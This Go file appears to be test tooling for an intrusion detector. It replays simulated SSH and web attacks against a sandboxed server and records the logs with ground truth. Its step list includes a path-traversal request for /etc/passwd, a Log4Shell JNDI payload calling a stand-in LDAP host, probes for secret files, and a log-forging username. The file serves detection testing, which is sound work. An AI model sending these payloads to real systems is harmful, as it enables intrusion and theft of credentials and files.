package main

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"time"

	"github.com/pialert/pialert/pkg/attack"
	"github.com/pialert/pialert/test/daemon"
)

// recordDemo writes half a minute of an ordinary server's life: attackers come and go, a few of
// them again and again, between the visits of the innocent.
func recordDemo(ctx context.Context, dir string) error {
	s, err := open()
	if err != nil {
		return err
	}
	defer s.close()
	if err := s.StartSyslog(ctx, daemon.Syslog{}); err != nil {
		return err
	}
	if err := s.StartSSHD(ctx, daemon.SSHD{}); err != nil {
		return err
	}
	if err := s.StartApache(ctx, daemon.Apache{}); err != nil {
		return err
	}
	random := rand.New(rand.NewPCG(1, 2))
	acts := demoSteps()
	random.Shuffle(len(acts), func(i, j int) { acts[i], acts[j] = acts[j], acts[i] })
	for _, act := range acts {
		from := netip.AddrFrom4([4]byte{203, 0, 113, byte(1 + random.IntN(12))})
		if random.IntN(5) == 0 {
			from = netip.MustParseAddr(fmt.Sprintf("2001:db8:bad::%x", 1+random.IntN(3)))
		}
		attempts, err := act(ctx, s.Machine, from)
		if err != nil {
			return err
		}
		s.attempts = append(s.attempts, attempts...)
		pause := time.Duration(random.ExpFloat64() * float64(280*time.Millisecond))
		select {
		case <-time.After(min(pause, time.Second)):
		case <-ctx.Done():
			return ctx.Err()
		}
	}
	if _, err := s.Login(ctx, last); err != nil {
		return err
	}
	if err := s.Await(ctx, "auth.log", "Disconnected from user", last.String()); err != nil {
		return err
	}
	for _, log := range []string{"auth.log", "apache2/access.log", "apache2/error.log"} {
		text, err := os.ReadFile(s.Log(log))
		if err != nil {
			return err
		}
		if err := writeLog(filepath.Join(dir, filepath.Base(log)), text); err != nil {
			return err
		}
	}
	return writeTruth(filepath.Join(dir, "truth.json"), newTruth("a server with OpenSSH and Apache", s.attempts))
}

// demoSteps is what happens in the demonstration, in no order.
func demoSteps() []step {
	var acts []step
	for range 3 {
		acts = append(acts, passwords("root", 1), passwords("root", 3), key("root"), scan, wordPress, wordPress,
			get(attack.HTTPProbe, "/.env"), get(0, "/"), get(0, "/style.css"), get(0, "/favicon.ico"))
	}
	for _, user := range []string{"admin", "ubuntu", "oracle", "postgres", "test", "git", "pi", "minecraft"} {
		acts = append(acts, passwords(user, 1))
	}
	return append(acts,
		passwords("admin", 9),
		passwords("root from 9.9.9.9 port 22 ssh2", 1),
		banner("GET / HTTP/1.1\r\n\r\n"),
		badKeyExchange,
		login, login,
		wordPressWelcome,
		xmlrpc, xmlrpc, xmlrpc,
		get(attack.HTTPProbe, "/phpmyadmin/index.php"),
		get(attack.HTTPProbe, "/.git/config"),
		get(attack.HTTPProbe, "/wp-config.php.bak"),
		get(attack.HTTPExploit, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
		get(attack.HTTPExploit, "/", "--user-agent", "${jndi:ldap://198.51.100.250/a}"),
		tls,
		basic(daemon.Account, "http://www.example.com/"),
		basic("root", "http://www.example.com/"),
	)
}
